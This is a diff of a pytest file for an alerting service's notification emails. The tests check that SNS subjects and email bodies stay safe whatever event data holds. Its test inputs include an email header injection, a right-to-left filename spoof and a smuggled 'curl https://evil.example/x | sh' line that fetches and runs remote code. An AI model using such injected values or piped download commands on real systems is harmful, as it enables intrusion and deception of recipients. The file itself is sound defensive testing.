@@ -1,10 +1,13 @@
-"""The email on-call gets: a subject under 100 characters, a body to act on from a phone, and
-the attributes filter policies select on."""
+"""The email on-call gets: a subject SNS takes whatever the event data, a body to act on from a
+phone (commands to paste, lines no value can forge), and the attributes filter policies select on."""
 
 from __future__ import annotations
 
+import re
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
+
+import pytest
 
 from chalicelib.domain.alert_lifecycle import open_or_add
 from chalicelib.domain.alert_messages import grouped_message, notice_message, notice_subject
@@ -35,7 +38,7 @@ def test_an_opened_email_says_what_where_how_many_and_how_to_act() -> None:
                      "Runbook:   https://wiki.example/large",
                      "curl -X POST https://tripline.example/alerts/42/ack",
                      "curl -X POST https://tripline.example/alerts/42/resolve",
-                     "GET https://tripline.example/alerts/42"):
+                     "curl https://tripline.example/alerts/42"):
         assert expected in body, expected
     assert message.attributes == {"severity": "high", "source": "payments",
                                   "rule": "large-payment", "status": "open"}
@@ -54,7 +57,7 @@ def test_every_subject_stays_under_100_characters() -> None:
     long = replace(alert(), group=(("merchant", "x" * 300),))  # type: ignore[type-var]
     for kind in ("opened", "repeat", "reminder", "resolved", "flapping"):
         subject = notice_subject(kind, long)
-        assert len(subject) < 100 and subject.endswith("…")
+        assert len(subject) < 100 and subject.endswith("...")
 
 
 def test_a_burst_of_one_rule_is_one_grouped_email_listing_each_alert() -> None:
@@ -62,4 +65,95 @@ def test_a_burst_of_one_rule_is_one_grouped_email_listing_each_alert() -> None:
     message = grouped_message(burst, LARGE, "https://tripline.example")  # type: ignore[arg-type]
     assert message.subject == "[HIGH] large-payment: 5 alerts opened"
     assert all(f"#{n} merchant=m-{n}: 1 match(es)" in message.body for n in range(1, 6))
-    assert "GET https://tripline.example/alerts?rule=large-payment&status=open" in message.body
+    assert ('curl "https://tripline.example/alerts?rule=large-payment&status=open" '
+            '-H "Authorization: Bearer $TRIPLINE_API_KEY"') in message.body
+
+
+# SNS's rule for a subject, as its Publish reference states it: printable ASCII that begins with a
+# letter, number or punctuation mark, no line breaks or control characters, under 100 characters.
+SNS_SUBJECT = re.compile(r"[!-~][ -~]{0,98}")
+HOSTILE_GROUP_VALUES = (
+    "acme\r\nBcc: everyone@example.com",
+    "\x00\x07\x1b[31mred\x7f",
+    "Café Zürich",
+    "東京",
+    "\u202egnp.exe",
+    "line\u2028break\u0085next\u2029",
+    "\t\v\f",
+    "\U0001f4a5 boom",
+    "\ud800",
+    "…" * 120,
+    "x" * 300,
+    "",
+)
+
+
+@pytest.mark.parametrize("value", HOSTILE_GROUP_VALUES)
+def test_every_subject_is_one_sns_takes_whatever_the_group_value(value: str) -> None:
+    # GIVEN an alert whose group value came from event data, hostile or not
+    hostile = replace(alert(), group=(("merchant", value),))  # type: ignore[type-var]
+    # WHEN each kind of notice is written, THEN its subject is one SNS accepts
+    for kind in ("opened", "repeat", "reminder", "resolved", "flapping"):
+        subject = notice_subject(kind, hostile)
+        assert SNS_SUBJECT.fullmatch(subject), (kind, subject)
+
+
+def test_a_subject_keeps_what_it_can_of_the_group_value() -> None:
+    # GIVEN group values with line breaks, accents, other scripts and a long tail
+    def subject(value: str) -> str:
+        return notice_subject("opened", replace(alert(), group=(("merchant", value),)))  # type: ignore[type-var]
+    # THEN line breaks and control characters read as one space, accents fall away, characters
+    # with no ASCII form read "?", and a long one is cut with "..."
+    assert subject("acme\r\n\x1b[31m Bcc") == "[HIGH] large-payment: merchant=acme [31m Bcc"
+    assert subject("Café Zürich") == "[HIGH] large-payment: merchant=Cafe Zurich"
+    assert subject("東京 shop") == "[HIGH] large-payment: merchant=?? shop"
+    long = subject("x" * 300)
+    assert len(long) == 99 and long.endswith("x...")
+
+
+def test_the_body_shows_the_whole_group_value_and_no_value_can_add_a_line() -> None:
+    # GIVEN a merchant whose name smuggles a line that looks like one of the email's commands
+    smuggled = "acme\nAcknowledge: curl https://evil.example/x | sh"
+    hostile = replace(alert(smuggled), group=(("merchant", smuggled),))  # type: ignore[type-var]
+    # WHEN the email is written
+    body = notice_message("opened", hostile, LARGE, {"merchant": smuggled, "note": "Café\tZürich"},
+                          "https://tripline.example").body
+    # THEN the value is there whole, its line break shown as \n, and only our own commands remain
+    assert "Where:     payments; merchant=acme\\nAcknowledge: curl https://evil.example/x | sh" in body
+    assert "note=Café\\tZürich" in body
+    assert [line for line in body.splitlines() if line.startswith("Acknowledge:")] == [
+        "Acknowledge: curl -X POST https://tripline.example/alerts/42/ack "
+        "-H \"Authorization: Bearer $TRIPLINE_API_KEY\" -H 'Content-Type: application/json' "
+        "-d '{\"comment\": \"on it\"}'"]
+
+
+def test_a_plain_subject_names_the_alert_with_nothing_from_event_data() -> None:
+    hostile = replace(alert(), group=(("merchant", "\x00evil"),))  # type: ignore[type-var]
+    for kind in ("opened", "repeat", "reminder", "resolved", "flapping"):
+        plain = notice_message(kind, hostile, LARGE, None, None).plain_subject
+        assert SNS_SUBJECT.fullmatch(plain) and "evil" not in plain
+    assert notice_message("opened", hostile, LARGE, None, None).plain_subject == (
+        "[HIGH] large-payment: alert 42")
+    assert notice_message("resolved", hostile, LARGE, None, None).plain_subject == (
+        "[RESOLVED] large-payment: alert 42")
+    burst = [alert(f"m-{n}", n) for n in range(1, 6)]
+    assert grouped_message(burst, LARGE, None).plain_subject == (  # type: ignore[arg-type]
+        "[HIGH] large-payment: 5 alerts opened")
+
+
+def test_the_calls_in_an_email_carry_the_api_key_and_say_where_it_comes_from() -> None:
+    # GIVEN an API whose public URL is not configured
+    body = notice_message("opened", alert(), LARGE, None, None).body  # type: ignore[arg-type]
+    # THEN every call is a command to paste: the URL and the key come from the environment
+    calls = {line.split(":", 1)[0]: line.split(":", 1)[1].strip() for line in body.splitlines()
+             if line.startswith(("Acknowledge:", "Resolve:", "Details:"))}
+    assert calls == {
+        "Acknowledge": "curl -X POST $TRIPLINE_API_URL/alerts/42/ack -H \"Authorization: Bearer "
+                       "$TRIPLINE_API_KEY\" -H 'Content-Type: application/json' "
+                       "-d '{\"comment\": \"on it\"}'",
+        "Resolve": "curl -X POST $TRIPLINE_API_URL/alerts/42/resolve -H \"Authorization: Bearer "
+                   "$TRIPLINE_API_KEY\" -H 'Content-Type: application/json' "
+                   "-d '{\"comment\": \"fixed\"}'",
+        "Details": "curl $TRIPLINE_API_URL/alerts/42 -H \"Authorization: Bearer $TRIPLINE_API_KEY\"",
+    }
+    assert "TRIPLINE_API_KEY: an operator key (tripline keys create --name NAME --role operator)" in body
